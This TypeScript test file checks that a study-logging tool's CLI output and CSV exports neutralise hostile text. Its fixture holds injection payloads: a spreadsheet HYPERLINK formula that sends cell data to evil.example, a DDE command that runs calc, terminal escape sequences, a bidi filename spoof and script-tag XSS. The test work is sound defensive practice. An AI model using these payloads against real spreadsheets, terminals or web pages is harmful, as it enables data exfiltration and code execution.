import { readdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import { DuckDBInstance } from "@duckdb/node-api";
import { expect, test } from "vitest";
import { JsonlJournal } from "../../src/index.ts";
import { findTableSource, textOfCell } from "../../src/tables/index.ts";
import { temporaryFolder } from "../support/logs.ts";
import { matchLog } from "../support/run-command.ts";
import { events, start } from "../support/small-study.ts";
import { rowsOf } from "../support/tables.ts";

/** What somebody could send as an attribute, as a name or as a reason. */
const hostile = {
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  plus: "+cmd|' /C calc'!A0",
  minus: "-2+3",
  at: "@SUM(A1:A9)",
  tab: "\t=1+1",
  fullwidth: "＝1+1",
  semicolon: "x;=1+1;y",
  nul: "\u0000=1",
  ansi: "\u001b[2J\u001b[31mred\u001b]8;;http://evil.example\u0007link\u001b]8;;\u0007",
  c1: "\u009b31m",
  bidi: "abc\u202ecod.exe\u2066",
  lines: "first\r\nsecond\nthird\u2028fourth",
  html: "<img src=x onerror=alert(1)><script>alert(1)</script>",
  quotes: '","\'"',
  missing: "NA",
  empty: "",
  escape: "\\u{1b}[2J",
} as const;

const attributes = { ...hostile, large: "=".repeat(1024 * 1024) };

/** The small study, with hostile text wherever text can stand. */
async function hostileStudy(): Promise<string> {
  const dataDir = await temporaryFolder();
  const journal = await JsonlJournal.open({
    dataDir,
    experimentId: "pilot",
    sceneId: "ring",
    durability: "written",
  });
  const { ansi } = attributes;
  const lines = events.map(([seconds, event], index) => ({
    ...event,
    seq: index + 1,
    at: start + seconds * 1000,
    ...("subject_id" in event && event.subject_id === "hal" ? { subject_id: ansi, attributes } : {}),
    ...("outcome" in event ? { outcome: `${ansi}=1` } : {}),
    ...("detail" in event ? { detail: attributes.large } : {}),
    ...("actor" in event && "what" in event ? { actor: attributes.formula, reason: attributes.lines } : {}),
  }));
  await journal.append(0, lines);
  await journal.close();
  return join(dataDir, "pilot");
}

// Made once: it is large.
const moves = /[^\P{C}\n]|[\p{Zl}\p{Zp}]/u;

test.each([
  [["validate"]],
  [["validate", "--json"]],
  [["stats"]],
  [["stats", "--json"]],
  [["tail", "-n", "all"]],
  [["tail", "-n", "all", "--json"]],
])("%j shows nothing that moves a terminal", async (call) => {
  const folder = await hostileStudy();
  const file = call[0] === "tail" ? join(folder, "match_logs", "ring_waitroom.jsonl") : folder;
  const { out, err } = await matchLog([...call, file]);
  expect(out.length).toBeGreaterThan(500 * Number(call[0] !== "validate"));
  expect(moves.exec(out)).toBeNull();
  expect(err).toBe("");
});

test("what tail shows of a megabyte is short", async () => {
  const path = join(await hostileStudy(), "match_logs", "ring_waitroom.jsonl");
  const { out } = await matchLog(["tail", "-n", "all", path]);
  for (const line of out.split("\n")) expect(line.length).toBeLessThan(2000);
});

test("cells are text to a spreadsheet, and come back equal", async () => {
  const source = await findTableSource(await hostileStudy());
  const rows = await rowsOf("waits", source, { withIds: true });
  const row = rows.at(-1) ?? {};
  for (const [name, text] of Object.entries(hostile)) {
    const cell = row[`attribute_${name}`] ?? "";
    for (const part of cell.split(/[;\t\r\n]/)) expect(part).not.toMatch(/^ *[=+\-@＝＋－＠]/);
    expect(textOfCell(cell)).toBe(text);
  }
  expect(textOfCell(row["participant_id"] ?? "")).toBe(attributes.ansi);
  expect(row["attribute_large"]).toMatch(/^'=+… \(cut, 1048576 characters\)$/);
});

test("an export with ids loads in DuckDB, and no file of it moves a terminal", async () => {
  const folder = await hostileStudy();
  const out = join(folder, "..", "tables");
  expect(await matchLog(["export", folder, "--out", out, "--with-ids"])).toMatchObject({ code: 0 });
  const instance = await DuckDBInstance.create(":memory:");
  const connection = await instance.connect();
  try {
    for (const name of await readdir(out)) {
      const text = await readFile(join(out, name), "utf8");
      expect(moves.exec(text.replaceAll(/[\r\t]/g, ""))).toBeNull();
      if (!name.endsWith(".csv")) continue;
      const path = join(out, name).replaceAll("'", "''");
      const read = `read_csv('${path}', nullstr = 'NA', strict_mode = true, all_varchar = true, max_line_size = 4000000)`;
      const { currentRowCount } = await connection.runAndReadAll(`from ${read}`);
      expect(currentRowCount, name).toBeGreaterThanOrEqual(1);
    }
  } finally {
    connection.closeSync();
    instance.closeSync();
  }
});
